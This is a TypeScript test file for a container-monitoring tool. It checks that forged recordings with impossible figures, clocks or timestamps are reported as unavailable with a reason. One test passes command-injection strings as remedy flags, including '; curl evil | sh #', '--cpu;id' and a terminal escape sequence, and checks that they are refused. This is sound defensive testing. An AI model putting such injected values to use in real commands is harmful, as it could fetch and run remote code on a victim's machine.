/** A recording that somebody has forged: what cannot be is unavailable, with the reason, and never a figure, a crash or a wrong word. */

import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { deflateRawSync } from 'node:zlib';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { field } from '../../src/diagnosis/fields.ts';
import type { Finding } from '../../src/diagnosis/model.ts';
import { dumped } from '../../src/export/dump.ts';
import { FormatError } from '../../src/recording/format/bytes.ts';
import { decodeHeader } from '../../src/recording/format/decode.ts';
import { createEncoder } from '../../src/recording/format/encode.ts';
import type { Moment, RecordingHeader } from '../../src/recording/format/moment.ts';
import { openRecording, type RecordedFrame, spanText } from '../../src/recording/recording.ts';
import { tscg } from '../boxes.ts';
import { snapshotOf } from '../metrics/snapshots.ts';
import { temporaryFolder } from '../temporary-folder.ts';
import { HEADER } from './moments.ts';

const BEGIN = new Date(2026, 10, 29, 3, 10, 0).getTime();

/** `figures`: of /web, beside what each moment has. */
function momentAt(second: number, figures: Readonly<Record<string, number>> = {}): Moment {
  const snapshot = snapshotOf(second, [
    { path: '/', figures: {} },
    { path: '/web', figures: { 'cpu.stat:usage_usec': second * 5e5, 'memory.current:value': 1e6, ...figures } },
  ]);
  return {
    snapshot: { ...snapshot, wall: BEGIN + 1000 * second },
    workloads: snapshot.rows.map(({ path, inode }) => ({ kind: 'container', name: path.slice(1), path, inode })),
    hidden: 0,
    cost: { milliseconds: 1, reads: 2, descriptors: 3, missed: 0 },
    ...{ processes: undefined, processesBefore: undefined, events: [], findings: [], changes: [] },
  };
}

function fileIn(directory: string, moments: readonly Moment[], header: RecordingHeader = HEADER): string {
  const encoder = createEncoder(header);
  const path = join(directory, 'forged.tscgrec');
  writeFileSync(path, Buffer.concat([...moments.map((moment) => encoder.add(moment)), encoder.end()]));
  return path;
}

/** The Frames of the recording, and what is said of it; undefined for a moment that cannot be read. */
function read(path: string): { frames: (RecordedFrame | undefined)[]; damage: readonly string[] } {
  const recording = openRecording(path);
  const [first, last] = [recording.first(), recording.last()];
  const frames = Array.from({ length: last.index + 1 }, (_, by) => recording.frame(recording.step(first, by)));
  assert.type(spanText(recording), 'string');
  const { damage } = recording;
  recording.close();
  return { frames, damage: damage() };
}

const IMPOSSIBLE = 'told figures that cannot be, below 0 or more than any machine has: they are unavailable';

for (const figure of [-5, -1e300, 1e300, Number.POSITIVE_INFINITY, Number.NEGATIVE_INFINITY])
  test(`a figure of ${figure} is unavailable, with the reason, and so is each that comes of it`, () => {
    const directory = temporaryFolder();
    const forged = { 'memory.current:value': figure, 'cpu.stat:usage_usec': figure };
    const path = fileIn(directory, [momentAt(0), momentAt(1, forged), momentAt(2, forged), momentAt(3), momentAt(4)]);
    const { frames, damage } = read(path);
    for (const id of ['memory_bytes', 'memory_current_bytes', 'cpu_percent']) {
      const of = frames[2]?.usage;
      assert.is(of && field(id).text(of, 1), '--', id);
      assert.match(
        String(of && field(id).reason(of, 1)),
        /^a figure of (memory\.current|cpu\.stat) was told that cannot be/,
        id,
      );
    }
    // What follows is told as it was.
    assert.is(frames[4]?.usage.value('memory_current_bytes', 1), 1e6);
    assert.is(frames[4]?.usage.value('cpu_percent', 1), 50);
    assert.equal(damage, [`moments 1 to 2 ${IMPOSSIBLE}`]);
  });

test('no limit is a figure of a limit', () => {
  const directory = temporaryFolder();
  const path = fileIn(directory, [momentAt(0, { 'memory.max:value': Number.POSITIVE_INFINITY })]);
  const { frames, damage } = read(path);
  assert.is(frames[0]?.usage.value('memory_limit_bytes', 1), Number.POSITIVE_INFINITY);
  assert.equal(damage, []);
});

test('a rate that no machine has is unavailable, with a reason', () => {
  const directory = temporaryFolder();
  const path = fileIn(directory, [momentAt(0), momentAt(1, { 'cpu.stat:usage_usec': 2 ** 64 })]);
  const usage = read(path).frames[1]?.usage;
  assert.is(usage && field('cpu_percent').text(usage, 1), '--');
  assert.match(String(usage && field('cpu_percent').reason(usage, 1)), /or it comes to more than any machine has$/);
});

test('figures of the machine and of processes that cannot be are unavailable, and it is said', () => {
  const directory = temporaryFolder();
  const moment = momentAt(0);
  const { snapshot } = moment;
  const host = { ...snapshot.host, cpus: -4, memoryTotal: 1e300 };
  const one = {
    ...{
      pid: 7,
      innerPid: 7,
      startTime: 1,
      comm: 'a',
      command: 'a',
      cgroup: '/web',
      entered: false,
      isNestedInit: false,
    },
    ...{ isKernelThread: false, state: 'S', ppid: 1, uid: 0, threads: -1, utimeTicks: 1, stimeTicks: 1 },
    ...{ rssBytes: 1e300, waitNs: -1 },
  };
  const path = fileIn(directory, [{ ...moment, snapshot: { ...snapshot, host }, processes: { time: 0, list: [one] } }]);
  const { frames, damage } = read(path);
  const { cpus, memoryTotal, memoryAvailable } = frames[0]?.usage.snapshot.host ?? {};
  assert.equal([cpus, memoryTotal, memoryAvailable].map(String), ['NaN', 'NaN', String(host.memoryAvailable)]);
  const [process] = frames[0]?.moment.processes?.list ?? [];
  assert.equal([process?.threads, process?.rssBytes, process?.waitNs].map(String), ['NaN', 'NaN', 'NaN']);
  assert.equal(damage, [`moment 0 ${IMPOSSIBLE}`]);
});

for (const wall of [Number.NaN, 1e300, -1e300, Number.POSITIVE_INFINITY])
  test(`a moment of the time ${wall} is none, and costs no other`, () => {
    const directory = temporaryFolder();
    const moment = momentAt(1);
    const forged = { ...moment, snapshot: { ...moment.snapshot, wall } };
    const { frames, damage } = read(fileIn(directory, [momentAt(0), forged]));
    assert.is(frames.length, 1);
    assert.ok(damage.length > 0, 'it is said');
    const [first] = frames;
    const [, line = ''] = dumped(first ? [first] : [], { format: 'csv', all: false });
    assert.match(line, /^2026-11-2/);
  });

for (const monotonic of [Number.NaN, -1, Number.POSITIVE_INFINITY])
  test(`a moment of the clock ${monotonic} cannot be read, and that is said`, () => {
    const directory = temporaryFolder();
    const moment = momentAt(0);
    const path = fileIn(directory, [{ ...moment, snapshot: { ...moment.snapshot, monotonic } }]);
    assert.equal(read(path), { frames: [undefined], damage: ['moment 0 cannot be read: its clock cannot be'] });
  });

test('a header or text with a time that cannot be is refused', () => {
  const directory = temporaryFolder();
  for (const wrong of [
    { interval: -1 },
    { interval: 1e300 },
    { started: 1e300 },
    { doctor: { time: 1e300, checks: [] } },
  ]) {
    const payload = deflateRawSync(Buffer.from(JSON.stringify({ ...HEADER, ...wrong })));
    assert.throws(
      () => decodeHeader(payload),
      (error: unknown) => error instanceof FormatError,
      JSON.stringify(wrong),
    );
  }
  const event = { time: 1e300, kind: 'oom', name: 'web', path: '/web', text: 'killed' } as const;
  const { frames, damage } = read(fileIn(directory, [{ ...momentAt(0), events: [event] }]));
  assert.equal(frames, [undefined]);
  assert.match(damage.join(), /^moment 0 cannot be read: a text is of another shape/);
});

test('a remedy whose limit is no flag is refused: a command is made of it', () => {
  const directory = temporaryFolder();
  const findingWith = (limits: Readonly<Record<string, string>>): Finding => ({
    workload: { path: '/web', inode: 2, name: 'web' },
    ...{ when: BEGIN, window: 5, source: 'files', missing: [] },
    verdicts: [
      {
        ...{ cause: 'disk', loss: 1, sentence: 'it waits', figures: [], suspects: [] },
        remedies: [{ path: '/web', name: 'web', words: 'less', limits }],
      },
    ],
  });
  for (const flag of ['; curl evil | sh #', '--cpu;id', '', '--cpu --force', '--CPU', '--\u001b[2J']) {
    const { frames, damage } = read(fileIn(directory, [{ ...momentAt(0), findings: [findingWith({ [flag]: '1' })] }]));
    assert.equal(frames, [undefined], flag);
    assert.match(damage.join(), /^moment 0 cannot be read: a text is of another shape: a limit that is no flag/);
  }
  const whole = findingWith({ '--io-max': '/dev/sda rbps=1' });
  assert.equal(read(fileIn(directory, [{ ...momentAt(0), findings: [whole] }])).frames[0]?.moment.findings, [whole]);
});

test('get and ls of such a moment say why', () => {
  const directory = temporaryFolder();
  const path = fileIn(directory, [momentAt(0), momentAt(1, { 'memory.current:value': -5, 'memory.max:value': -1 })]);
  const got = tscg('get', 'web', '--from', path);
  assert.is(got.status, 0, got.stderr);
  assert.match(got.stdout, /MEM +-- +a figure of memory\.current was told that cannot be: below 0/);
  assert.match(got.stdout, /memory\.max +-- +\(a figure of memory\.max was told that cannot be/);
  const { unavailable, memory_current_bytes } = JSON.parse(tscg('get', 'web', '--from', path, '--json').stdout);
  assert.is(memory_current_bytes, null);
  assert.match(unavailable.memory_current_bytes, /cannot be/);
  const listed = tscg('ls', '--from', path);
  assert.match(listed.stderr, new RegExp(`moment 1 ${IMPOSSIBLE}`));
});

test.run();
